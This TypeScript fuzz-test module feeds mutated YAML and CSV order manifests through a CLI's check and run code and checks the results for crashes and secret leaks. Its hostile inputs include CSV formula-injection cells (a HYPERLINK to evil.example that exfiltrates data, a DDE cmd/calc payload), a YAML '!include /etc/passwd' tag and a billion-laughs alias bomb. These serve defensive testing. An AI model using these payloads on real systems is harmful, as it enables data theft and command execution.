import { readFile, rm, stat, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { stringify as toYaml } from 'yaml';
import { checkInput } from '../../src/cli/check-command.js';
import { reportSchemaErrors } from './chaos.js';

/**
 * Bad-input fuzzing (issue 7): manifests — YAML and CSV — generated valid, then mutated in
 * the data (wrong types, missing fields, unknown keys, huge numbers, unicode, long strings),
 * in the text (duplicate keys, alias bombs, deep nesting, BOMs, mixed line endings,
 * truncation, formula cells) and in the bytes (flips, binary garbage). Each case goes through
 * `htorder check`'s own code (checkInput: reader, schema, rules, the three reports) and must
 * come out as a verdict with located errors, never a crash or a hang.
 */

export type Ext = 'yaml' | 'csv';

export interface FuzzCase {
  ext: Ext;
  /** What was done to the manifest, for the failure message and the tally. */
  mutation: string;
  content: string | Uint8Array;
  /** The mutation makes the manifest invalid whatever else was generated. */
  mustBeInvalid: boolean;
  /** The mutation must not change the verdict of `base` (BOM, line endings). */
  sameVerdictAs?: string | Uint8Array;
}

// ---------------------------------------------------------------- valid manifests

const word = fc.stringMatching(/^[A-Za-z][A-Za-z0-9 ]{0,15}$/);
/** Free text: any unicode, including astral planes, combining marks, RTL, NUL-free controls. */
const freeText = fc.string({ unit: 'binary', maxLength: 40 }).map((s) => s.replaceAll('\u0000', ''));

interface Job {
  orderNumber: string;
  description?: string;
  deliveryAddress: Record<string, string>;
  items: Record<string, unknown>[];
}

const itemArb = fc.oneof(
  fc.record({
    itemType: fc.constant('Asset'),
    code: fc.constantFrom('A10001', 'A10004', 'G20001'),
    quantity: fc.integer({ min: 1, max: 5000 }),
  }),
  fc.record({
    itemType: fc.constant('PriceCode'),
    code: fc.constant('DTF Full Color 10" x 10"'),
    quantity: fc.integer({ min: 10, max: 5000 }),
    customerReference: word,
    externalArtworkUrl: fc.constant('https://cdn.example.com/a.png'),
    attributes: fc.record({ Colors: fc.constantFrom('1', '2', '3', '4') }),
  }),
);

export const jobsArb: fc.Arbitrary<Job[]> = fc
  .array(
    fc.record({
      description: fc.option(freeText, { nil: undefined }),
      contactName: freeText,
      city: word,
      items: fc.array(itemArb, { minLength: 1, maxLength: 3 }),
    }),
    { minLength: 1, maxLength: 6 },
  )
  .map((jobs) =>
    jobs.map((j, i) => ({
      orderNumber: `PO-${i + 1}`,
      ...(j.description === undefined ? {} : { description: j.description }),
      deliveryAddress: {
        deliveryMethod: 'UPSGND',
        contactName: j.contactName,
        streetAddress: '1 Main St',
        city: j.city,
        state: 'TX',
        postalCode: '78701',
        countryCodeISO2: 'US',
      },
      items: j.items,
    })),
  );

export function yamlOf(doc: unknown): string {
  return toYaml(doc, { lineWidth: 0 });
}

const CSV_HEADER = [
  'orderNumber',
  'description',
  'deliveryMethod',
  'contactName',
  'streetAddress',
  'city',
  'state',
  'postalCode',
  'country',
  'itemType',
  'code',
  'quantity',
  'customerReference',
  'externalArtworkUrl',
  'attr:Colors',
];

function csvCell(v: unknown): string {
  const s = v === undefined || v === null ? '' : String(v);
  return /[",\r\n]/.test(s) || s !== s.trim() ? `"${s.replace(/"/g, '""')}"` : s;
}

export function csvRows(jobs: Job[]): string[][] {
  const rows: string[][] = [CSV_HEADER];
  for (const j of jobs) {
    for (const it of j.items) {
      const a = j.deliveryAddress;
      rows.push([
        j.orderNumber,
        j.description ?? '',
        a.deliveryMethod!,
        a.contactName!,
        a.streetAddress!,
        a.city!,
        a.state!,
        a.postalCode!,
        a.countryCodeISO2!,
        String(it.itemType),
        String(it.code),
        String(it.quantity),
        String(it.customerReference ?? ''),
        String(it.externalArtworkUrl ?? ''),
        String((it.attributes as Record<string, string> | undefined)?.Colors ?? ''),
      ]);
    }
  }
  return rows;
}

export function csvOf(rows: string[][], eol = '\n'): string {
  return rows.map((r) => r.map(csvCell).join(',')).join(eol) + eol;
}

// ---------------------------------------------------------------- mutations

const pick = <T>(xs: readonly T[]) => fc.constantFrom(...xs);

/** Values that are the wrong type (or range) for an item's `quantity` wherever it is written. */
const badQuantity = pick(['abc', '', 'ten', true, false, null, {}, [], [1], { a: 1 }, -1, 0, 1.5, -0.5, '1e3x', 'NaN']);
/** Numbers a parser may mishandle; not necessarily invalid. */
const hugeNumber = pick([2 ** 53, 2 ** 53 + 2, 1e21, 1e308, Number.MAX_SAFE_INTEGER, 123456789012345678901234567890n]);

type Mut = fc.Arbitrary<{ mutation: string; doc: unknown; mustBeInvalid: boolean }>;

function dataMutations(jobs: Job[]): Mut {
  const n = jobs.length;
  const doc = () =>
    ({ version: 1, jobs: structuredClone(jobs) }) as { version: unknown; jobs: Job[] } & Record<string, unknown>;
  const jobIx = fc.nat({ max: n - 1 });
  return fc.oneof(
    fc.tuple(jobIx, badQuantity).map(([j, v]) => {
      const d = doc();
      d.jobs[j]!.items[0]!.quantity = v;
      return { mutation: 'wrong-type quantity', doc: d, mustBeInvalid: true };
    }),
    fc
      .tuple(
        jobIx,
        pick(['orderNumber', 'items', 'deliveryAddress.deliveryMethod', 'items[0].itemType', 'items[0].code']),
      )
      .map(([j, field]) => {
        const d = doc();
        const job = d.jobs[j] as unknown as Record<string, Record<string, unknown>>;
        if (field === 'deliveryAddress.deliveryMethod') delete job.deliveryAddress!.deliveryMethod;
        else if (field.startsWith('items[0].'))
          delete (job.items as unknown as Record<string, unknown>[])[0]![field.slice(9)];
        else delete job[field];
        return { mutation: `missing ${field}`, doc: d, mustBeInvalid: true };
      }),
    pick(['version', 'jobs']).map((k) => {
      const d = doc();
      delete d[k];
      return { mutation: `missing ${k}`, doc: d, mustBeInvalid: true };
    }),
    fc
      .tuple(
        jobIx,
        pick(['countryCodeIso2', 'ordernumber', 'Items', 'quantityy', 'dateDue ', '__proto__', 'constructor']),
      )
      .map(([j, key]) => {
        const d = doc();
        const job = d.jobs[j] as unknown as Record<string, unknown>;
        Object.defineProperty(job, key, { value: 'x', enumerable: true, configurable: true, writable: true });
        return { mutation: `unknown key ${key}`, doc: d, mustBeInvalid: true };
      }),
    jobIx.map((j) => {
      // With one job, a second copy of it makes the duplicate.
      const d = doc();
      if (n > 1) d.jobs[(j + 1) % n]!.orderNumber = d.jobs[j]!.orderNumber;
      else d.jobs.push(structuredClone(d.jobs[0]!));
      return { mutation: 'duplicate orderNumber', doc: d, mustBeInvalid: true };
    }),
    fc.tuple(jobIx, pick(['version', 'jobs', 'items', 'deliveryAddress'])).chain(([j, where]) =>
      pick([42, 'text', null, true, [], {}]).map((v) => {
        const d = doc();
        if (where === 'version' || where === 'jobs') (d as Record<string, unknown>)[where] = v;
        else (d.jobs[j] as unknown as Record<string, unknown>)[where] = v;
        const stillValid = where === 'version' && v === 1;
        return { mutation: `wrong-type ${where}`, doc: d, mustBeInvalid: !stillValid };
      }),
    ),
    fc.tuple(jobIx, hugeNumber).map(([j, v]) => {
      const d = doc();
      d.jobs[j]!.items[0]!.quantity = v;
      return { mutation: 'huge quantity', doc: d, mustBeInvalid: false };
    }),
    fc
      .tuple(jobIx, fc.integer({ min: 10_000, max: 300_000 }), pick(['description', 'orderNumber', 'contactName']))
      .map(([j, len, field]) => {
        const d = doc();
        const long = '€𝄞x'.repeat(Math.ceil(len / 3)).slice(0, len);
        if (field === 'contactName') d.jobs[j]!.deliveryAddress.contactName = long;
        else (d.jobs[j] as unknown as Record<string, unknown>)[field] = long;
        return { mutation: `very long ${field}`, doc: d, mustBeInvalid: false };
      }),
    fc.tuple(jobIx, fc.integer({ min: 50, max: 400 })).map(([j, depth]) => {
      const d = doc();
      let v: unknown = 'x';
      for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { k: v };
      (d.jobs[j] as unknown as Record<string, unknown>).description = v;
      return { mutation: 'deep nesting (data)', doc: d, mustBeInvalid: true };
    }),
    fc.tuple(jobIx, freeText).map(([j, t]) => {
      const d = doc();
      d.jobs[j]!.orderNumber = `${d.jobs[j]!.orderNumber}${t}`;
      return { mutation: 'unicode orderNumber', doc: d, mustBeInvalid: false };
    }),
  );
}

function textMutations(
  text: string,
  invalidBase: boolean,
): fc.Arbitrary<{ mutation: string; text: string; mustBeInvalid: boolean; keepsVerdict?: boolean }> {
  return fc.oneof(
    fc.constant({ mutation: 'BOM', text: `\uFEFF${text}`, mustBeInvalid: invalidBase, keepsVerdict: true }),
    fc.array(pick(['\n', '\r\n']), { minLength: 1, maxLength: 8 }).map((eols) => {
      let i = 0;
      return {
        mutation: 'mixed line endings',
        text: text.replace(/\n/g, () => eols[i++ % eols.length]!),
        mustBeInvalid: invalidBase,
        keepsVerdict: true,
      };
    }),
    fc
      .nat({ max: Math.max(0, text.length - 1) })
      .map((at) => ({ mutation: 'truncated', text: text.slice(0, at), mustBeInvalid: false })),
    fc.nat({ max: Math.max(0, text.length - 1) }).chain((at) =>
      fc.string({ unit: 'binary', minLength: 1, maxLength: 8 }).map((junk) => ({
        mutation: 'inserted junk',
        text: text.slice(0, at) + junk + text.slice(at),
        mustBeInvalid: false,
      })),
    ),
  );
}

/** YAML-only attacks on the parser. */
const yamlAttacks = fc.oneof(
  fc.integer({ min: 3, max: 12 }).map((levels) => {
    // The billion laughs: each level refers to the previous one ten times.
    const lines = ['version: 1', 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i <= levels; i++)
      lines.push(`a${i}: &a${i} [${Array.from({ length: 10 }, () => `*a${i - 1}`).join(',')}]`);
    lines.push(`jobs: *a${levels}`);
    return { mutation: 'alias bomb', text: `${lines.join('\n')}\n`, mustBeInvalid: true };
  }),
  fc.tuple(fc.integer({ min: 100, max: 20_000 }), pick(['[', '{a: ', '- '])).map(([depth, open]) => {
    const close = open === '[' ? ']' : open === '{a: ' ? '}' : '';
    const body =
      open === '- '
        ? Array.from({ length: Math.min(depth, 2000) }, (_, i) => `${'  '.repeat(i)}- `).join('\n') + 'x'
        : `${open.repeat(depth)}x${close.repeat(depth)}`;
    return {
      mutation: 'deep nesting (text)',
      text: `version: 1\njobs:\n  - orderNumber: PO-1\n    description: ${open === '- ' ? '\n' : ''}${body}\n    items: []\n`,
      mustBeInvalid: true,
    };
  }),
  jobsArb.map((jobs) => {
    const text = yamlOf({ version: 1, jobs });
    return {
      mutation: 'duplicate key',
      text: text.replace(/^(\s*- )orderNumber: (.*)$/m, '$1orderNumber: $2\n    orderNumber: $2-dup'),
      mustBeInvalid: true,
    };
  }),
  fc.constantFrom(
    { mutation: 'yaml tags', text: 'version: !!binary aGVsbG8=\njobs: !!set {a, b}\n', mustBeInvalid: true },
    { mutation: 'yaml custom tag', text: 'version: 1\njobs:\n  - !include /etc/passwd\n', mustBeInvalid: true },
    { mutation: 'multi-document', text: 'version: 1\njobs: []\n---\nversion: 1\n', mustBeInvalid: true },
    {
      mutation: 'merge key bomb',
      text: 'a: &a {x: 1}\nb: &b {<<: [*a, *a, *a]}\nversion: 1\njobs: [*b]\n',
      mustBeInvalid: true,
    },
    { mutation: 'empty', text: '', mustBeInvalid: true },
    { mutation: 'only comment', text: '# nothing\n', mustBeInvalid: true },
    { mutation: 'scalar document', text: '42\n', mustBeInvalid: true },
  ),
);

/** CSV-only attacks. */
function csvMutations(
  jobs: Job[],
): fc.Arbitrary<{ mutation: string; rows?: string[][]; text?: string; mustBeInvalid: boolean }> {
  const rows = csvRows(jobs);
  const body = rows.length - 1;
  const rowIx = fc.integer({ min: 1, max: body });
  const clone = () => rows.map((r) => [...r]);
  const col = (name: string) => CSV_HEADER.indexOf(name);
  return fc.oneof(
    fc.tuple(rowIx, pick(['abc', '-3', '0', '1.5', '1e400', '９９', ' ', '=1+1'])).map(([r, v]) => {
      const x = clone();
      x[r]![col('quantity')] = v;
      return { mutation: 'bad quantity cell', rows: x, mustBeInvalid: true };
    }),
    pick(['orderNumber', 'itemType', 'code']).map((name) => {
      const x = clone().map((r) => r.filter((_, i) => i !== col(name)));
      return { mutation: `missing column ${name}`, rows: x, mustBeInvalid: true };
    }),
    pick(['Quantity', 'countryCodeIso2', 'attr', 'size:', '']).map((name) => {
      const x = clone().map((r, i) => [...r, i === 0 ? name : 'v']);
      return { mutation: `unknown column "${name}"`, rows: x, mustBeInvalid: true };
    }),
    fc
      .tuple(
        rowIx,
        pick([
          '=HYPERLINK("http://evil.example/?"&A1,"x")',
          '+SUM(1,2)',
          '-2+3',
          '@cmd',
          '\t=1',
          '\r=1',
          "=cmd|' /C calc'!A0",
        ]),
      )
      .map(([r, v]) => {
        const x = clone();
        x[r]![col('description')] = v;
        x[r]![col('customerReference')] = v;
        // Every row of the job must agree on description, so set it on all of that job's rows.
        for (const row of x) if (row[0] === x[r]![0]) row[col('description')] = v;
        return { mutation: 'formula cells', rows: x, mustBeInvalid: false };
      }),
    rowIx.map((r) => {
      const x = clone();
      x[r] = x[r]!.slice(0, 3);
      return { mutation: 'short row', rows: x, mustBeInvalid: true };
    }),
    rowIx.map((r) => {
      const text = csvOf(rows).split('\n');
      text[r] = `${text[r]},"unterminated`;
      return { mutation: 'unbalanced quote', text: text.join('\n'), mustBeInvalid: true };
    }),
    fc.tuple(rowIx, pick(['Texas', 'Neverland', '', '😀'])).map(([r, v]) => {
      const x = clone();
      for (const row of x) if (row[0] === x[r]![0]) row[col('state')] = v;
      return { mutation: 'state value', rows: x, mustBeInvalid: false };
    }),
  );
}

const garbage = fc
  .uint8Array({ minLength: 1, maxLength: 4096 })
  .map((bytes) => ({ mutation: 'binary garbage', content: bytes }));

function flip(bytes: Uint8Array, at: number[], to: number[]): Uint8Array {
  const out = Uint8Array.from(bytes);
  at.forEach((a, i) => {
    if (out.length > 0) out[a % out.length] = to[i]!;
  });
  return out;
}

export const yamlCaseArb: fc.Arbitrary<FuzzCase> = fc.oneof(
  {
    weight: 1,
    arbitrary: jobsArb.map((jobs) => ({
      ext: 'yaml' as const,
      mutation: 'none (valid)',
      content: yamlOf({ version: 1, jobs }),
      mustBeInvalid: false,
    })),
  },
  {
    weight: 5,
    arbitrary: jobsArb
      .chain((jobs) => dataMutations(jobs))
      .map((m) => ({
        ext: 'yaml' as const,
        mutation: m.mutation,
        content: safeYaml(m.doc),
        mustBeInvalid: m.mustBeInvalid,
      })),
  },
  {
    weight: 3,
    arbitrary: jobsArb.chain((jobs) => {
      const base = yamlOf({ version: 1, jobs });
      return textMutations(base, false).map((m) => ({
        ext: 'yaml' as const,
        mutation: m.mutation,
        content: m.text,
        mustBeInvalid: m.mustBeInvalid,
        ...(m.keepsVerdict ? { sameVerdictAs: base } : {}),
      }));
    }),
  },
  {
    weight: 2,
    arbitrary: yamlAttacks.map((m) => ({
      ext: 'yaml' as const,
      mutation: m.mutation,
      content: m.text,
      mustBeInvalid: m.mustBeInvalid,
    })),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        jobsArb,
        fc.array(fc.nat(), { minLength: 1, maxLength: 6 }),
        fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 6, maxLength: 6 }),
      )
      .map(([jobs, at, to]) => ({
        ext: 'yaml' as const,
        mutation: 'byte flips',
        content: flip(new TextEncoder().encode(yamlOf({ version: 1, jobs })), at, to),
        mustBeInvalid: false,
      })),
  },
  { weight: 1, arbitrary: garbage.map((g) => ({ ext: 'yaml' as const, ...g, mustBeInvalid: true })) },
);

export const csvCaseArb: fc.Arbitrary<FuzzCase> = fc.oneof(
  {
    weight: 1,
    arbitrary: jobsArb.map((jobs) => ({
      ext: 'csv' as const,
      mutation: 'none (valid)',
      content: csvOf(csvRows(jobs)),
      mustBeInvalid: false,
    })),
  },
  {
    weight: 5,
    arbitrary: jobsArb
      .chain((jobs) => csvMutations(jobs))
      .map((m) => ({
        ext: 'csv' as const,
        mutation: m.mutation,
        content: m.text ?? csvOf(m.rows!),
        mustBeInvalid: m.mustBeInvalid,
      })),
  },
  {
    weight: 3,
    arbitrary: jobsArb.chain((jobs) => {
      const base = csvOf(csvRows(jobs));
      return textMutations(base, false).map((m) => ({
        ext: 'csv' as const,
        mutation: m.mutation,
        content: m.text,
        mustBeInvalid: m.mustBeInvalid,
        ...(m.keepsVerdict ? { sameVerdictAs: base } : {}),
      }));
    }),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        jobsArb,
        fc.array(fc.nat(), { minLength: 1, maxLength: 6 }),
        fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 6, maxLength: 6 }),
      )
      .map(([jobs, at, to]) => ({
        ext: 'csv' as const,
        mutation: 'byte flips',
        content: flip(new TextEncoder().encode(csvOf(csvRows(jobs))), at, to),
        mustBeInvalid: false,
      })),
  },
  { weight: 1, arbitrary: garbage.map((g) => ({ ext: 'csv' as const, ...g, mustBeInvalid: true })) },
);

export const caseArb: fc.Arbitrary<FuzzCase> = fc.oneof(yamlCaseArb, csvCaseArb);

function safeYaml(doc: unknown): string {
  // yaml's stringify handles BigInt; a self-made __proto__ key is written as a plain key.
  return yamlOf(doc);
}

// ---------------------------------------------------------------- the oracle

export interface CaseVerdict {
  status: 'valid' | 'invalid' | 'unreadable';
  problems: string[];
}

const FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/**
 * Runs one case through check's code and returns what is wrong with the outcome (empty:
 * all good): a throw, a report the schema refuses, an error without a location, errors.txt
 * and the verdict disagreeing, a formula cell in result.csv, a secret in any report.
 */
export async function checkCase(c: FuzzCase, dir: string, secrets: string[] = []): Promise<CaseVerdict> {
  const file = join(dir, `orders.${c.ext}`);
  const problems: string[] = [];
  await writeFile(file, c.content);
  const paths = { json: `${file}.result.json`, csv: `${file}.result.csv`, errors: `${file}.errors.txt` };
  await Promise.all(Object.values(paths).map((p) => rm(p, { force: true })));
  let outcome: Awaited<ReturnType<typeof checkInput>>;
  try {
    outcome = await checkInput(file);
  } catch (err) {
    return { status: 'invalid', problems: [`check threw: ${(err as Error).stack ?? err}`] };
  }
  if (outcome.status === 'unreadable') {
    // Content is never a usage error: a file that exists and is readable gets a verdict.
    problems.push(`unreadable: ${outcome.problem}`);
    return { status: 'unreadable', problems };
  }
  const json = await readFile(paths.json, 'utf8');
  const report = JSON.parse(json) as {
    jobs: { errors: { source: unknown }[]; items: { errors: { source: unknown }[] }[] }[];
    errors: { source: unknown; message: string }[];
  };
  const schemaErrors = await reportSchemaErrors(report);
  if (schemaErrors) problems.push(`report fails its schema: ${schemaErrors}`);
  const hasErrorsTxt = await stat(paths.errors).then(
    () => true,
    () => false,
  );
  if ((outcome.status === 'invalid') !== hasErrorsTxt)
    problems.push(`status ${outcome.status} but errors.txt ${hasErrorsTxt ? 'exists' : 'missing'}`);
  if (c.mutation === 'none (valid)' && outcome.status !== 'valid')
    problems.push(`a generated valid manifest was refused: ${json.slice(0, 600)}`);
  if (c.mustBeInvalid && outcome.status !== 'invalid')
    problems.push(`"${c.mutation}" must be invalid, got ${outcome.status}`);
  // A file-level error may have source null (the schema: the whole input; errors.txt names
  // the file); an error of a job or an item must say where that job or item is.
  const jobErrors = report.jobs.flatMap((j) => [...j.errors, ...j.items.flatMap((i) => i.errors)]);
  if (outcome.status === 'invalid' && report.errors.length + jobErrors.length === 0)
    problems.push('invalid without any error');
  for (const e of jobErrors)
    if (!e.source) problems.push(`error without a location: ${JSON.stringify(e).slice(0, 200)}`);
  if (hasErrorsTxt) {
    const name = basename(file);
    for (const line of (await readFile(paths.errors, 'utf8')).split('\n').filter(Boolean)) {
      if (!line.startsWith(`${name}:`)) problems.push(`errors.txt line names no location: ${line.slice(0, 200)}`);
    }
  }
  const csvText = await readFile(paths.csv, 'utf8');
  try {
    const cells = (parseCsv(csvText, { bom: true, relax_column_count: true }) as string[][]).flat();
    for (const cell of cells)
      if (FORMULA.test(cell) && !PLAIN_NUMBER.test(cell))
        problems.push(`formula cell in result.csv: ${JSON.stringify(cell.slice(0, 80))}`);
  } catch (err) {
    problems.push(`result.csv does not parse: ${(err as Error).message}`);
  }
  for (const s of secrets) if (json.includes(s) || csvText.includes(s)) problems.push('secret in a report');
  if (c.sameVerdictAs !== undefined) {
    const base = await checkCase(
      { ext: c.ext, mutation: 'base', content: c.sameVerdictAs, mustBeInvalid: false },
      dir,
      secrets,
    );
    if (base.status !== outcome.status)
      problems.push(`"${c.mutation}" changed the verdict: ${base.status} → ${outcome.status}`);
  }
  return { status: outcome.status, problems };
}

export function describeCase(c: FuzzCase): string {
  const text = typeof c.content === 'string' ? c.content : Buffer.from(c.content).toString('latin1');
  return `${c.ext} / ${c.mutation}: ${JSON.stringify(text.slice(0, 300))}${text.length > 300 ? `… (${text.length} chars)` : ''}`;
}

export interface FuzzTally {
  cases: number;
  invalid: number;
  valid: number;
  byMutation: Record<string, number>;
  seconds: number;
}

/**
 * `numRuns` generated cases through checkCase; throws (with fast-check's shrunk
 * counterexample and seed) on the first case with a problem.
 */
export async function runFuzz(opts: {
  numRuns: number;
  seed: number;
  dir: string;
  secrets?: string[];
  arb?: fc.Arbitrary<FuzzCase>;
}): Promise<FuzzTally> {
  const t0 = Date.now();
  const tally: FuzzTally = { cases: 0, invalid: 0, valid: 0, byMutation: {}, seconds: 0 };
  await fc.assert(
    fc.asyncProperty(opts.arb ?? caseArb, async (c) => {
      const v = await checkCase(c, opts.dir, opts.secrets);
      if (v.problems.length > 0) throw new Error(`${v.problems.slice(0, 5).join('\n')}\n  case: ${describeCase(c)}`);
      tally.cases++;
      const kind = `${c.ext} ${c.mutation.replace(/ ".*"$/, '')}`;
      tally.byMutation[kind] = (tally.byMutation[kind] ?? 0) + 1;
      if (v.status === 'invalid') tally.invalid++;
      else tally.valid++;
    }),
    { numRuns: opts.numRuns, seed: opts.seed, endOnFailure: false, interruptAfterTimeLimit: undefined },
  );
  tally.seconds = (Date.now() - t0) / 1000;
  return tally;
}

// ---------------------------------------------------------------- end to end through `run`

export interface RunFuzzResult {
  cases: number;
  exitCodes: Record<string, number>;
  created: number;
}

/**
 * Invalid manifests (mustBeInvalid cases) end to end through `htorder run` against the
 * sandbox, debug logs on: each must exit 1, create no job, and leak neither the client
 * secret nor a token into the log or the reports.
 */
export async function runInvalidThroughRun(opts: {
  numRuns: number;
  seed: number;
  dir: string;
}): Promise<RunFuzzResult> {
  const { startSandbox } = await import('../../src/sandbox/index.js');
  const { runPipelineCommand } = await import('../../src/cli/run-pipeline.js');
  const { Writable } = await import('node:stream');
  const sandbox = await startSandbox({ port: 0 });
  const result: RunFuzzResult = { cases: 0, exitCodes: {}, created: 0 };
  try {
    const a = sandbox.accounts.find((x) => x.name === 'us-demo')!;
    const r = sandbox.regions.us!;
    const env = {
      HTORDER_BASE_URL: r.baseUrl,
      HTORDER_AUTH_URL: r.authUrl,
      HTORDER_REALM: r.realm,
      HTORDER_CLIENT_ID: a.clientId,
      HTORDER_CLIENT_SECRET: a.clientSecret,
      HTORDER_STATE_DIR: join(opts.dir, 'state'),
      HTORDER_LOG_LEVEL: 'debug',
      // The same content under many order numbers is the workload here, not a suspected duplicate.
      HTORDER_DUPLICATE_WINDOW: '0',
      // The manifests link artwork to a fictional CDN: the artwork tests fetch real links.
      HTORDER_ARTWORK_CHECK: 'off',
    };
    const tokenRes = await fetch(`${r.authUrl}/realms/${r.realm}/protocol/openid-connect/token`, {
      method: 'POST',
      body: new URLSearchParams({
        grant_type: 'client_credentials',
        client_id: a.clientId,
        client_secret: a.clientSecret,
      }),
    });
    const token = ((await tokenRes.json()) as { access_token: string }).access_token;
    const invalid = fc.oneof(yamlCaseArb, csvCaseArb).filter((c) => c.mustBeInvalid);
    await fc.assert(
      fc.asyncProperty(invalid, async (c) => {
        const file = join(opts.dir, `run.${c.ext}`);
        await writeFile(file, c.content);
        let log = '';
        const sink = new Writable({
          write(chunk, _e, cb) {
            log += String(chunk);
            cb();
          },
        });
        const code = await runPipelineCommand(
          { command: 'run', files: [file], flags: {} },
          { stdout: sink, stderr: sink, env, cwd: opts.dir },
        );
        const created = (await sandbox.admin.jobs()).length;
        const reports = await Promise.all(
          ['result.json', 'result.csv', 'errors.txt'].map((x) => readFile(`${file}.${x}`, 'utf8').catch(() => '')),
        );
        const problems: string[] = [];
        if (code !== 1) problems.push(`exit ${code}, expected 1`);
        if (created !== 0) problems.push(`${created} job(s) created from an invalid manifest`);
        if (!log.includes('"level":20') && !log.includes('DEBUG'))
          problems.push('no debug output to scan (the scan would prove nothing)');
        for (const text of [log, ...reports]) {
          if (text.includes(a.clientSecret)) problems.push('client secret leaked');
          if (text.includes(token)) problems.push('token leaked');
          if (/Bearer\s+[A-Za-z0-9._~+/-]{8,}/.test(text)) problems.push('bearer header leaked');
        }
        if (problems.length > 0)
          throw new Error(`${problems.join('; ')}\n  case: ${describeCase(c)}\n  log: ${log.slice(-1500)}`);
        result.cases++;
        result.exitCodes[code] = (result.exitCodes[code] ?? 0) + 1;
        result.created += created;
      }),
      { numRuns: opts.numRuns, seed: opts.seed },
    );
  } finally {
    await sandbox.close();
  }
  return result;
}
